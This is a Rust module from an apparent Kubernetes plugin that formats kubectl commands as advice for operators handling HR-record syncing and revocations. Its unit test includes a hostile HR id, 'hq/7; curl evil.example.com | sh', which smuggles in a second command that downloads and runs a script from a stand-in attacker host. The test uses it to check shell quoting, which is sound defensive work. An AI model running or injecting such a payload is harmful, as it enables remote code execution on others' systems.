//! What the reader can do, as commands to copy.

use crate::cli::plugin::people::answer::Command;
use crate::cli::plugin::people::edit::word;

/// Something that the reader can do.
#[derive(Debug, PartialEq, Eq)]
pub struct Advice {
    /// The command, as a shell takes it, where there is one.
    pub command: Option<String>,
    /// All that is said of it, with the command in it.
    pub text: String,
}

/// A command, or what to do where there is none. Ids of HR systems may hold anything, and are quoted for a shell.
pub fn advice(command: &Command, namespace: &str) -> Advice {
    let run = |command: String, more: &str| Advice { text: format!("{command}{more}"), command: Some(command) };
    let say = |before: &str, command: String, after: &str| Advice {
        text: format!("{before}{command}{after}"),
        command: Some(command),
    };
    let by_hand = |text: String| Advice { text, command: None };
    match command {
        Command::Approve(name) => run(format!("kubectl rollcall approve {name}"), ""),
        Command::ApproveBatch(batch) => {
            run(format!("kubectl rollcall approve --batch {batch}"), &format!(", or reject --batch {batch} --reason …"))
        }
        Command::Waiting => {
            say("approve or reject what waits: ", format!("kubectl -n {namespace} get revocations"), "")
        }
        Command::Unreject(name) => {
            run(format!("kubectl rollcall reject --undo {name}"), ", if they are to be revoked after all")
        }
        Command::Retry(name) => {
            run(format!("kubectl rollcall retry {name}"), ", after correcting what its verdicts and steps name")
        }
        Command::LiftStop => run("kubectl rollcall stop --lift".to_owned(), ""),
        Command::LiftHold(person) => run(format!("kubectl rollcall hold {person} --lift"), ", to end the hold sooner"),
        Command::Connection(name) => run(format!("kubectl -n {namespace} describe hrconnection {name}"), ""),
        Command::Accept(name, response) => {
            run(format!("kubectl rollcall accept {name} --response {response}"), ", if that response is right")
        }
        Command::Policy(name) => run(format!("kubectl -n {namespace} describe syncpolicy {name}"), ""),
        Command::CorrectInHr(record) => by_hand(format!("correct {record} in the HR system")),
        Command::MapStatuses(connection) => {
            by_hand(format!("map the words of status.unmappedStatuses of hrconnection {connection}"))
        }
        Command::Merge(record) => by_hand(format!(
            "kubectl rollcall merge {} CONNECTION/ID, with their record of the new connection",
            word(record)
        )),
        Command::Split(record) => say(
            &format!("add the connection of {record} to the policy, or wait for it, or "),
            format!("kubectl rollcall split {}", word(record)),
            "",
        ),
        Command::Revocation(name) => say(
            "end by hand what remains, as ",
            format!("kubectl -n {namespace} get revocation {name} -o yaml"),
            " names it",
        ),
        Command::Erase(person) => {
            run(format!("kubectl rollcall erase {person}"), ", once nothing about them is needed any more")
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_id_of_an_hr_system_is_one_word_of_a_command() {
        let hostile = Command::Split("hq/7; curl evil.example.com | sh".to_owned());
        let advice = advice(&hostile, "rollcall");
        assert_eq!(advice.command.as_deref(), Some("kubectl rollcall split 'hq/7; curl evil.example.com | sh'"));
        assert!(advice.text.contains(advice.command.as_deref().unwrap()), "{}", advice.text);
    }
}
